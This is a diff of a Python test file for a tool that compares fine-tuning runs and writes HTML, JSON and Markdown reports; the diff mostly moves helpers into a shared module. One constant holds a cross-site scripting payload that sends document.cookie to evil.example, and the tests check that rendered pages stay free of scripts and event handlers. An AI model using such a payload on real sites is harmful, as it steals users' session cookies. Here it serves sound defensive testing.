@@ -12,13 +12,14 @@ from pathlib import Path
 import numpy as np
 import pytest
 from page import Page
+from synthetic import METRIC, N, change, measure, workflow, write
 
 from opdcl import compare, plots, report, stats
 from opdcl.errors import UsageError
 from opdcl.rundir import RunDir
+from opdcl.view import view
+from opdcl.view import write as write_page
 
-N = 40
-METRIC = "accuracy"
 ROOT = Path(__file__).parents[2]
 PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
 HOSTILE = f'{PAYLOAD}\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 | `tick` ![x](https://evil.example/x.png) $x^2$ " 漢'
@@ -31,33 +32,6 @@ TUNED = {"instructions": range(8), "handbook": range(36)}
 def few_resamples(monkeypatch):
     """A thousand resamples are enough here."""
     monkeypatch.setattr(stats, "RESAMPLES", 1000)
-
-
-def write(path: Path, value) -> None:
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_text("".join(json.dumps(r) + "\n" for r in value) if isinstance(value, list) else json.dumps(value))
-
-
-def measure(run: RunDir, state: str, passes: dict, n: int = N, prompt: str = "Prompt", metric: str = METRIC) -> None:
-    """Write evaluations in which the prompts with these numbers are passed; suite name -> numbers."""
-    for suite, passed in passes.items():
-        role = "domain" if suite in ("handbook", "manual") else "retention"
-        rows = [{"doc_id": i, "prompt": f"{prompt} {i}", "scores": {metric: i in set(passed)}} for i in range(n)]
-        result = {"suite": suite, "role": role, "metric": metric, "metrics": {metric: len(passed) / n}, "floor": {}}
-        write(run.eval_result(state, suite), result)
-        write(run.eval_samples(state, suite), rows)
-
-
-def workflow(**recover) -> dict:
-    return {
-        "name": "any",
-        "description": "any",
-        "model": {"id": "smollm2-135m"},
-        "finetune": {"data": "handbook", "seed": 0, "lora": {"r": 32}},
-        "recover": {"method": "alternating", "steps": 48, "save_steps": 8, "seed": 0} | recover,
-        "eval": {"retention": ["instructions"], "domain": ["handbook"], "data": {}, "limit": None, "seed": 0},
-        "gates": {"recovery": None},
-    }
 
 
 @pytest.fixture
@@ -74,12 +48,6 @@ def make(tmp_path):
         return run
 
     return made
-
-
-def change(run: RunDir, section: str, **values) -> None:
-    config = json.loads(run.config.read_text())
-    config["workflow"][section] = config["workflow"][section] | values
-    write(run.config, config)
 
 
 @pytest.fixture
@@ -178,7 +146,7 @@ def test_base_and_tuned_that_all_share_come_first_and_once(three):
     assert [(r["name"], r["retention"]["value"], r["domain"]["value"]) for r in found["references"]] == [
         ("base", 0.8, 0.1), ("tuned", 0.2, 0.9),
     ]  # fmt: skip
-    assert [row[0].split("\n")[0] for row in compare.tables(found)[0].rows] == [
+    assert [row[0].split("\n")[0] for row in view(found).tables[0].rows] == [
         "base",
         "tuned",
         "ours",
@@ -210,7 +178,7 @@ def test_the_distance_to_the_alpha_curve_is_paired_and_the_curve_has_none(three)
 def test_without_a_curve_there_is_no_distance_to_it(three):
     found = compare.compare(three[:2])
     assert [row["above_alpha_curve"] for row in found["arms"]] == [None, None]
-    assert [table.title for table in compare.tables(found)] == ["Scores", "Settings that differ"]
+    assert [table.title for table in view(found).tables] == ["Scores", "Settings that differ"]
 
 
 def test_of_two_curves_the_one_of_the_same_tuned_model_counts(make):
@@ -248,7 +216,7 @@ def test_a_setting_that_only_one_arm_has_and_a_section_left_out_are_differences(
         "recover.trainer.weight_decay": {"ours": 0.1},
         "recover": {"ours": "given", "general": "given", "scaled": "left out"},
     }
-    rows = compare.tables(found)[-1].rows
+    rows = view(found).tables[-1].rows
     assert ["recover.trainer.weight_decay", "0.1", "–", "–"] in rows  # noqa: RUF001
 
 
@@ -408,7 +376,7 @@ def test_without_any_domain_suite_retention_alone_is_compared(three, tmp_path):
     found = compare.compare(three)
     assert found["headline"] == {"retention": "instructions", "domain": None}
     assert [row["domain"] for row in found["arms"]] == [{}, {}, {}]
-    compare.write(found, tmp_path / "out")
+    write_page(found, tmp_path / "out")
     assert plots.frontier(found) is None
 
 
@@ -431,19 +399,19 @@ def test_another_number_of_prompts_other_prompts_or_another_metric_are_refused(t
 
 def test_three_files_are_written_and_twice_with_the_same_bytes(three, tmp_path):
     found = compare.compare(three)
-    files = compare.write(found, tmp_path / "new" / "out")
+    files = write_page(found, tmp_path / "new" / "out")
     assert sorted(p.name for p in (tmp_path / "new" / "out").iterdir()) == [
         "compare.html",
         "compare.json",
         "compare.md",
     ]
     before = [path.read_bytes() for path in files]
-    assert [path.read_bytes() for path in compare.write(compare.compare(three), tmp_path / "new" / "out")] == before
+    assert [path.read_bytes() for path in write_page(compare.compare(three), tmp_path / "new" / "out")] == before
     assert json.loads(files[-1].read_text()) == found
 
 
 def test_markdown_and_html_show_scores_distance_settings_and_runs(three, tmp_path):
-    text, page, _ = (p.read_text() for p in compare.write(compare.compare(three), tmp_path / "out"))
+    text, page, _ = (p.read_text() for p in write_page(compare.compare(three), tmp_path / "out"))
     assert "| ours 1 seed | 70.0 % [" in text
     assert "0.83 [" in text
     assert re.search(
@@ -457,7 +425,7 @@ def test_markdown_and_html_show_scores_distance_settings_and_runs(three, tmp_pat
 
 
 def test_the_page_has_the_look_and_the_policy_of_the_report(three, tmp_path):
-    page = compare.write(compare.compare(three), tmp_path / "out")[1].read_text()
+    page = write_page(compare.compare(three), tmp_path / "out")[1].read_text()
     own = next(p for p in report.write(three[0]) if p.suffix == ".html").read_text()
     style = re.search(r"<style>.*?</style>", own, re.S)
     policy = re.search(r"<meta http-equiv=.*?>", own)
@@ -497,7 +465,7 @@ def hostile(make) -> list[RunDir]:
 def test_hostile_names_run_nothing_and_break_no_page(hostile, tmp_path):
     with warnings.catch_warnings():
         warnings.simplefilter("error")
-        text, html, data = (p.read_text() for p in compare.write(compare.compare(hostile), tmp_path / "out"))
+        text, html, data = (p.read_text() for p in write_page(compare.compare(hostile), tmp_path / "out"))
     page = Page(html)
     assert not {"script", "link", "iframe", "object", "embed", "base", "form", "img", "a"} & set(page.tags)
     assert not [name for name, _ in page.attributes if name.startswith("on") or name in ("src", "action", "srcset")]
